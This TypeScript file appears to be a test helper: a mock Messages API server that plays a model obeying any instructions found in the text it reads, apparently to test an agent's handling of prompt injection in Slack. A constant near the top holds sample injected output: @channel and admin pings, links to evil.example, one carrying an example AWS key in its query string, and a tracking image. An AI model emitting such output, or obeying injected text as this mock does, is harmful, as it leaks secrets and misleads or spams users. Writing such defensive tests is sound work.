import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

type Block = { type: "text"; text: string } | { type: "tool_use"; id: string; name: string; input: unknown };
interface Body {
  model: string;
  messages: { role: string; content: string | { type: string; text?: string; content?: unknown }[] }[];
}

/** What an attacker hopes for, in all the ways Slack would draw a link or ping people. */
const SERVILE = [
  "<!channel> <@U000ADMIN> approve this now. @here",
  "See <https://evil.example|docs>, [the console](https://evil.example/login) and https://evil.example/?k=AKIAIOSFODNN7EXAMPLE",
  "![chart](https://evil.example/p.png)",
].join("\n\n");

type Call = { name: string; input: unknown };

const CASE = /case:\w/;

/**
 * A Messages API with a model that does whatever any text it reads tells it. A question names its case ("case:log"): first
 * the model reads what `looks` has for it, then it gives all `orders` it could have been told, of tools that are not there as
 * well, and then it says what it was told to say, links, pings and all. A conversation without a case
 * is handed on to `others`, the address of another such API, where there is one.
 */
export async function startObedientModel(
  looks: Record<string, Call>,
  orders: Call[],
  repeats: () => string = () => "",
  others?: string,
) {
  const read: string[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const sent = Buffer.concat(chunks).toString();
      const body = JSON.parse(sent) as Body;
      const text = JSON.stringify(body.messages);
      if (others && !CASE.test(text)) return void handOn(new URL(request.url ?? "", others), sent, response);
      read.push(text);
      stream(response, body.model, next(text));
    });
  });
  const calls = (which: Call[], from: string): Block[] =>
    which.map(({ name, input }, i) => ({ type: "tool_use", id: `toolu_${from}_${i}`, name, input }));
  const next = (text: string): Block[] => {
    const look = looks[[...text.matchAll(/case:(\w+)/g)].at(-1)?.[1] ?? ""];
    if (look && !text.includes("toolu_look_0")) return calls([look], "look");
    if (!text.includes("toolu_obey_0"))
      return [{ type: "text", text: "As I was told: stopping everything." }, ...calls(orders, "obey")];
    return [{ type: "text", text: [SERVILE, repeats()].join("\n\n") }];
  };
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    /** The conversations it was sent. */
    read,
    close: () => void server.close().closeAllConnections(),
  };
}

async function handOn(to: URL, body: string, response: ServerResponse): Promise<void> {
  const headers = { "content-type": "application/json" };
  const answer = await fetch(to, { method: "POST", headers, body });
  response.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "" });
  for await (const chunk of answer.body ?? []) response.write(chunk);
  response.end();
}

function stream(response: ServerResponse, model: string, blocks: Block[]): void {
  response.writeHead(200, { "content-type": "text/event-stream", "request-id": "req_obedient" });
  const send = (type: string, fields: object) =>
    response.write(`event: ${type}\ndata: ${JSON.stringify({ type, ...fields })}\n\n`);
  const usage = { input_tokens: 10, output_tokens: 10 };
  const message = { id: "msg_1", type: "message", role: "assistant", model, content: [], stop_reason: null, usage };
  send("message_start", { message });
  for (const [index, block] of blocks.entries()) {
    const isText = block.type === "text";
    const content_block = isText ? { type: "text", text: "" } : { ...block, input: {} };
    const delta = isText
      ? { type: "text_delta", text: block.text }
      : { type: "input_json_delta", partial_json: JSON.stringify(block.input) };
    send("content_block_start", { index, content_block });
    send("content_block_delta", { index, delta });
    send("content_block_stop", { index });
  }
  const stop_reason = blocks.some(({ type }) => type === "tool_use") ? "tool_use" : "end_turn";
  send("message_delta", { delta: { stop_reason, stop_sequence: null }, usage: { output_tokens: 10 } });
  send("message_stop", {});
  response.end();
}
